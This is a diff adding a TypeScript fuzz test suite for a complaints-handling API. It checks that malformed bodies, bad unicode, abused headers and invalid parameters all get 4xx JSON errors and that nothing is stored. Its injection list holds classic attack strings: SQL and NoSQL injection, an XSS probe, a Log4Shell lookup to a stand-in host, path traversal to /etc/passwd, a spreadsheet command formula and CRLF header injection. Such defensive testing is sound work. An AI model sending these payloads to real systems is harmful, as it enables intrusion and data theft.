@@ -1,0 +1,471 @@
+import { request as httpRequest } from "node:http";
+import { DynamoDBClient, ScanCommand } from "@aws-sdk/client-dynamodb";
+import fc from "fast-check";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { z } from "zod";
+import { customerHistoryQuerySchema, customerIdSchema } from "../../functions/app/customer-history";
+import { regulatoryReportQuerySchema, slaReportQuerySchema } from "../../functions/app/reports";
+import { rootCauseReportQuerySchema } from "../../functions/app/root-causes";
+import {
+  customerReplySchema,
+  feedbackSchema,
+  intakeRequestSchema,
+  queueQuerySchema,
+  staffActionSchema,
+  teamSchema,
+} from "../../functions/domain/schemas";
+import type { HandlerId } from "../../functions/handlers/catalog";
+import { MAX_BODY_BYTES, ROUTES, type Route } from "../../functions/http/routes";
+import { complaintBody, type Harness, newKey, startHarness } from "./harness";
+
+/*
+ * Bad input at every route: malformed JSON, wrong types, huge bodies, deep nesting, unicode edge cases,
+ * injection strings and header abuse. Every answer must be a 4xx with `{ error: { code, message,
+ * details? } }`; no 5xx; and nothing may be stored (the table's item count, read from DynamoDB Local
+ * directly, is the same before and after). Each generated request is built to be invalid for its route
+ * (bodies and parameters are filtered against the route's own schemas), so a 2xx is a finding too.
+ */
+const RUNS_PER_PROPERTY = Number(process.env.FUZZ_RUNS ?? 60);
+
+let h: Harness;
+let raw: DynamoDBClient;
+let existingId = "";
+let itemsBefore = 0;
+let cases = 0;
+
+const countItems = async () => {
+  let total = 0;
+  let start: Record<string, unknown> | undefined;
+  do {
+    const out = await raw.send(
+      new ScanCommand({
+        TableName: h.stack.tableName,
+        Select: "COUNT",
+        ...(start ? { ExclusiveStartKey: start as never } : {}),
+      }),
+    );
+    total += out.Count ?? 0;
+    start = out.LastEvaluatedKey;
+  } while (start);
+  return total;
+};
+
+beforeAll(async () => {
+  h = await startHarness();
+  raw = new DynamoDBClient({
+    endpoint: h.stack.dynamoEndpoint,
+    region: "us-east-1",
+    credentials: { accessKeyId: "local", secretAccessKey: "local" },
+  });
+  // One real complaint, so requests with a valid id reach body validation and the store.
+  const res = await h.submit("mobile_app", complaintBody());
+  expect(res.status).toBe(201);
+  existingId = res.body.id;
+  await h.waitFor(
+    async () => (await h.staff("GET", `/staff/complaints/${existingId}`, await manager())).body.status,
+    (s) => s === "in_progress",
+  );
+  await new Promise((r) => setTimeout(r, 500));
+  itemsBefore = await countItems();
+});
+afterAll(async () => {
+  raw?.destroy();
+  await h?.stop();
+});
+
+const manager = () => h.staffToken(["cards"], "manager", "fuzz-manager");
+
+// --- raw HTTP: duplicated headers, odd paths and bytes that fetch would normalise away ----------------
+interface RawRequest {
+  method: string;
+  path: string;
+  headers: Record<string, string | string[]>;
+  body?: string | Buffer;
+}
+interface RawResponse {
+  status: number;
+  text: string;
+}
+const send = (req: RawRequest): Promise<RawResponse> =>
+  new Promise((resolve, reject) => {
+    const url = new URL(h.url);
+    const r = httpRequest(
+      { hostname: url.hostname, port: url.port, method: req.method, path: req.path, headers: req.headers },
+      (res) => {
+        const chunks: Buffer[] = [];
+        res.on("data", (c: Buffer) => chunks.push(c));
+        res.on("end", () =>
+          resolve({ status: res.statusCode ?? 0, text: Buffer.concat(chunks).toString("utf8") }),
+        );
+        res.on("error", reject);
+      },
+    );
+    r.on("error", reject);
+    r.end(req.body);
+  });
+
+const assertErrorAnswer = (req: RawRequest, res: RawResponse) => {
+  cases++;
+  const where = `${req.method} ${req.path} -> ${res.status} ${res.text.slice(0, 300)}`;
+  expect(res.status, where).toBeGreaterThanOrEqual(400);
+  expect(res.status, where).toBeLessThan(500);
+  let body: unknown;
+  try {
+    body = JSON.parse(res.text);
+  } catch {
+    throw new Error(`not JSON: ${where}`);
+  }
+  expect(Object.keys(body as object), where).toEqual(["error"]);
+  const error = (body as { error: Record<string, unknown> }).error;
+  expect(typeof error.code, where).toBe("string");
+  expect(typeof error.message, where).toBe("string");
+  for (const k of Object.keys(error)) expect(["code", "message", "details"], where).toContain(k);
+};
+
+// --- generators ----------------------------------------------------------------------------------------
+const INJECTIONS = [
+  "' OR '1'='1' --",
+  '"; DROP TABLE complaints; --',
+  "<script>alert(1)</script>",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe is exactly this literal text
+  "${jndi:ldap://evil.example/a}",
+  "{{7*7}}",
+  "../../../../etc/passwd",
+  "%00",
+  "\u0000",
+  '{"$ne": null}',
+  "__proto__",
+  "constructor",
+  "COMPLAINT#01ARZ3NDEKTSV4RRFFQ69G5FAV",
+  "=cmd|' /C calc'!A0",
+  "\r\nSet-Cookie: x=1",
+];
+const UNICODE = [
+  "\ud800",
+  "\udfff",
+  "a\ud83dz",
+  "\u202eevil\u202c",
+  "مرحبا بالعالم",
+  "\u200b\u200c\u200d\ufeff",
+  "👩‍👩‍👧‍👦🏳️‍🌈",
+  "\u0301\u0301\u0301",
+  "Ｆｕｌｌｗｉｄｔｈ",
+  "\uffff\ufffe",
+  "𝕏".repeat(300),
+];
+const edgeString = fc.oneof(
+  fc.constantFrom(...INJECTIONS, ...UNICODE),
+  fc.string({ unit: "grapheme", maxLength: 40 }),
+  fc.string({ unit: "binary", maxLength: 40 }),
+  fc.string({ maxLength: 20 }),
+);
+const edgeValue: fc.Arbitrary<unknown> = fc.oneof(
+  edgeString,
+  fc.integer(),
+  fc.double(),
+  fc.boolean(),
+  fc.constant(null),
+  fc.array(edgeString, { maxLength: 3 }),
+  fc.dictionary(edgeString, edgeString, { maxKeys: 3 }),
+);
+
+const nested = (depth: number, kind: "array" | "object") =>
+  kind === "array"
+    ? `${"[".repeat(depth)}${"]".repeat(depth)}`
+    : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
+
+/** Takes a valid body and breaks it: a field of the wrong type, an unknown field, a unicode or injection value. */
+const mutated = (valid: Record<string, unknown>) =>
+  fc
+    .tuple(
+      fc.constantFrom(...Object.keys(valid), "__proto__", "constructor", "extra", "type"),
+      edgeValue,
+      fc.boolean(),
+    )
+    .map(([key, value, drop]) => {
+      const copy: Record<string, unknown> = JSON.parse(JSON.stringify(valid));
+      if (drop) delete copy[key];
+      else copy[key] = value;
+      return JSON.stringify(copy);
+    });
+
+/** Bodies that are never valid for `schema`: malformed, wrong shapes, nesting, huge, broken variants. */
+const badBody = (schema: z.ZodType, valid: Record<string, unknown>): fc.Arbitrary<string | Buffer> =>
+  fc
+    .oneof(
+      // Malformed JSON.
+      fc.oneof(
+        fc.string({ maxLength: 50 }),
+        fc.constantFrom(
+          "{",
+          "[",
+          '{"a":}',
+          "{'a':1}",
+          "nul",
+          "tru",
+          '{"a":1,}',
+          "\ufeff{}",
+          "NaN",
+          "1e999999",
+        ),
+        fc.jsonValue().map((v) => JSON.stringify(v).slice(0, -1)),
+      ),
+      // Any JSON at all, and JSON of the right shape with wrong types.
+      fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)),
+      mutated(valid),
+      // Deep nesting.
+      fc
+        .tuple(fc.integer({ min: 50, max: 20_000 }), fc.constantFrom("array" as const, "object" as const))
+        .map(([d, k]) => nested(d, k)),
+      // Huge: just over the limit, and far over it.
+      fc
+        .constantFrom(MAX_BODY_BYTES + 1, 2 * MAX_BODY_BYTES)
+        .map((n) => JSON.stringify({ ...valid, description: "x".repeat(n) })),
+      // Bytes that are not UTF-8.
+      fc.uint8Array({ minLength: 1, maxLength: 64 }).map((a) => Buffer.from([0xff, 0xfe, ...a])),
+    )
+    .filter((body) => {
+      if (Buffer.isBuffer(body)) return true;
+      try {
+        return !schema.safeParse(JSON.parse(body)).success;
+      } catch {
+        return true;
+      }
+    });
+
+const CONTENT_TYPES = [
+  "application/json",
+  "application/json; charset=utf-8",
+  "text/plain",
+  "application/xml",
+  "multipart/form-data; boundary=x",
+  "application/x-www-form-urlencoded",
+  "application/json; charset=utf-16",
+  "application/json, text/plain",
+  "",
+];
+
+/** Header abuse on top of valid credentials: none, duplicated, oversized, garbled. */
+type Abuse = "none" | "no_credentials" | "duplicate_credentials" | "garbled_credentials" | "oversized_header";
+const abuse = fc.constantFrom<Abuse>(
+  "none",
+  "none",
+  "no_credentials",
+  "duplicate_credentials",
+  "garbled_credentials",
+  "oversized_header",
+);
+
+interface RouteFuzz {
+  bodySchema?: z.ZodType;
+  validBody?: Record<string, unknown>;
+  querySchema?: z.ZodType;
+  /** Path parameters whose valid values would be answered 200 (they are filtered out). */
+  paramSchemas?: Record<string, z.ZodType>;
+}
+/** A profile per route; a route added to ROUTES without one fails the first test below. */
+const FUZZ: Partial<Record<HandlerId, RouteFuzz>> = {
+  intake: { bodySchema: intakeRequestSchema, validBody: complaintBody() },
+  getComplaint: {},
+  customerReply: { bodySchema: customerReplySchema, validBody: { message: "The gold card" } },
+  feedback: { bodySchema: feedbackSchema, validBody: { satisfaction: 4, outcome: "accept" } },
+  queue: { querySchema: queueQuerySchema, paramSchemas: { team: teamSchema } },
+  listNotices: {},
+  customerHistory: { querySchema: customerHistoryQuerySchema, paramSchemas: { id: customerIdSchema } },
+  reportsRootCauses: { querySchema: rootCauseReportQuerySchema },
+  staffGetComplaint: {},
+  staffAction: { bodySchema: staffActionSchema, validBody: { type: "note", note: "n" } },
+  verifyAudit: {},
+  reportsSla: { querySchema: slaReportQuerySchema },
+  reportsRegulatory: { querySchema: regulatoryReportQuerySchema },
+};
+
+const credentials = async (route: Route, how: Abuse): Promise<Record<string, string | string[]>> => {
+  const good =
+    route.auth === "channel"
+      ? { name: "x-api-key", value: h.apiKey("mobile_app") }
+      : { name: "authorization", value: `Bearer ${await manager()}` };
+  switch (how) {
+    case "no_credentials":
+      return {};
+    case "duplicate_credentials":
+      // Node keeps the first of duplicated Authorization headers and joins duplicated x-api-key ones.
+      return { [good.name]: [`${good.value}x`, good.value] };
+    case "garbled_credentials":
+      return { [good.name]: `${good.value.slice(0, -3)}x${good.value.slice(-2)}` };
+    case "oversized_header":
+      return { [good.name]: good.value, "x-padding": "p".repeat(12_000) };
+    default:
+      return { [good.name]: good.value };
+  }
+};
+
+/** A path parameter that is not a real complaint id / team: invalid, or valid-looking but absent. */
+const badParam = (schema?: z.ZodType) =>
+  fc
+    .oneof(
+      edgeString,
+      fc.constantFrom("01ARZ3NDEKTSV4RRFFQ69G5FAV", "..", ".", "%", "%E0%A4%A", "%2F", "a".repeat(2000)),
+    )
+    .filter((v) => v.length > 0 && v !== existingId)
+    .filter((v) => !schema?.safeParse(v).success)
+    .map((v) => (RAW_PARAMS.has(v) ? v : percentEncode(v)));
+
+/** Sent as they are: dot segments and broken percent-encoding. */
+const RAW_PARAMS = new Set(["..", ".", "%", "%E0%A4%A", "%2F"]);
+/** encodeURIComponent, or the UTF-8 bytes of a string it refuses (a lone surrogate). */
+const percentEncode = (v: string) => {
+  try {
+    return encodeURIComponent(v);
+  } catch {
+    return [...Buffer.from(v, "utf8")].map((b) => `%${b.toString(16).padStart(2, "0")}`).join("");
+  }
+};
+
+const pathFor = (route: Route, params: Record<string, string>) =>
+  route.path.replace(/\{(\w+)\}/g, (_, name: string) => params[name] ?? existingId);
+
+const badQuery = (schema: z.ZodType) =>
+  fc
+    .dictionary(
+      fc.constantFrom("limit", "cursor", "stage", "tier", "from", "to", "groupBy", "period", "format", "x"),
+      fc.oneof(edgeString, fc.constantFrom("-1", "0", "1e9", "2026-13", "2026Q5", "csv", "NaN")),
+      { minKeys: 1, maxKeys: 4 },
+    )
+    .filter((q) => !schema.safeParse(q).success)
+    .map((q) => new URLSearchParams(q as Record<string, string>).toString());
+
+// --- the properties --------------------------------------------------------------------------------------
+describe("bad input at every route", () => {
+  const routes = ROUTES.map((route) => ({ route, fuzz: FUZZ[route.handler] }));
+
+  it("has a fuzz profile for every route in ROUTES", () => {
+    for (const { route, fuzz } of routes) expect(fuzz, `${route.method} ${route.path}`).toBeDefined();
+  });
+
+  for (const { route, fuzz } of routes) {
+    if (!fuzz) continue;
+    const params = [...route.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1] as string);
+
+    if (route.method === "POST" && fuzz.bodySchema && fuzz.validBody) {
+      const schema = fuzz.bodySchema;
+      const valid = fuzz.validBody;
+      it(`${route.method} ${route.path}: bad bodies and header abuse answer 4xx`, async () => {
+        await fc.assert(
+          fc.asyncProperty(
+            badBody(schema, valid),
+            fc.constantFrom(...CONTENT_TYPES),
+            abuse,
+            fc.boolean(),
+            async (body, contentType, how, duplicateKey) => {
+              const headers = await credentials(route, how);
+              if (contentType) headers["content-type"] = contentType;
+              if (route.handler === "intake") {
+                const key = newKey();
+                headers["idempotency-key"] = duplicateKey ? [key, newKey()] : key;
+              }
+              const req: RawRequest = { method: "POST", path: pathFor(route, {}), headers, body };
+              assertErrorAnswer(req, await send(req));
+            },
+          ),
+          { numRuns: RUNS_PER_PROPERTY },
+        );
+      });
+    }
+
+    if (params.length > 0) {
+      it(`${route.method} ${route.path}: bad path parameters answer 4xx`, async () => {
+        await fc.assert(
+          fc.asyncProperty(
+            fc.tuple(...params.map((p) => badParam(fuzz.paramSchemas?.[p]))),
+            abuse,
+            async (values, how) => {
+              const headers = await credentials(route, how);
+              const body =
+                route.method === "POST" ? JSON.stringify(fuzz.validBody ?? { type: "claim" }) : undefined;
+              if (body) headers["content-type"] = "application/json";
+              if (route.handler === "intake") headers["idempotency-key"] = newKey();
+              const req: RawRequest = {
+                method: route.method,
+                path: pathFor(route, Object.fromEntries(params.map((p, i) => [p, values[i] as string]))),
+                headers,
+                ...(body ? { body } : {}),
+              };
+              assertErrorAnswer(req, await send(req));
+            },
+          ),
+          { numRuns: RUNS_PER_PROPERTY },
+        );
+      });
+    }
+
+    if (fuzz.querySchema) {
+      const schema = fuzz.querySchema;
+      it(`${route.method} ${route.path}: bad query strings answer 4xx`, async () => {
+        await fc.assert(
+          fc.asyncProperty(badQuery(schema), abuse, async (query, how) => {
+            const req: RawRequest = {
+              method: "GET",
+              path: `${pathFor(route, { team: "cards", id: route.path.startsWith("/customers") ? "C-1001" : existingId })}?${query}`,
+              headers: await credentials(route, how),
+            };
+            assertErrorAnswer(req, await send(req));
+          }),
+          { numRuns: RUNS_PER_PROPERTY },
+        );
+      });
+    }
+
+    if (route.method === "GET") {
+      it(`${route.method} ${route.path}: missing, garbled or duplicated credentials answer 4xx`, async () => {
+        await fc.assert(
+          fc.asyncProperty(
+            fc.constantFrom<Abuse>("no_credentials", "duplicate_credentials", "garbled_credentials"),
+            async (how) => {
+              const req: RawRequest = {
+                method: "GET",
+                path: pathFor(route, { team: "cards" }),
+                headers: await credentials(route, how),
+              };
+              assertErrorAnswer(req, await send(req));
+            },
+          ),
+          { numRuns: 10 },
+        );
+      });
+    }
+  }
+
+  it("a valid complaint with a lone surrogate, or far too large, is refused, not stored", async () => {
+    for (const description of ["broken \ud800 text", "x".repeat(11 * 1024 * 1024)]) {
+      const req: RawRequest = {
+        method: "POST",
+        path: "/complaints",
+        headers: {
+          "x-api-key": h.apiKey("mobile_app"),
+          "idempotency-key": newKey(),
+          "content-type": "application/json",
+        },
+        body: JSON.stringify(complaintBody({ description })),
+      };
+      assertErrorAnswer(req, await send(req));
+    }
+  });
+
+  it("a request whose headers are larger than the server accepts gets a JSON 4xx", async () => {
+    const req: RawRequest = {
+      method: "GET",
+      path: `/complaints/${existingId}`,
+      headers: { "x-api-key": h.apiKey("mobile_app"), "x-padding": "p".repeat(20_000) },
+    };
+    assertErrorAnswer(req, await send(req));
+  });
+
+  it("stored nothing, answered no 5xx, and reports how many cases it tried", async () => {
+    expect(await countItems()).toBe(itemsBefore);
+    process.stdout.write(
+      `\nfuzz: ${cases} bad requests tried across ${ROUTES.length} routes, 0 answered 5xx\n`,
+    );
+    expect(cases).toBeGreaterThan(ROUTES.length * 10);
+  });
+});
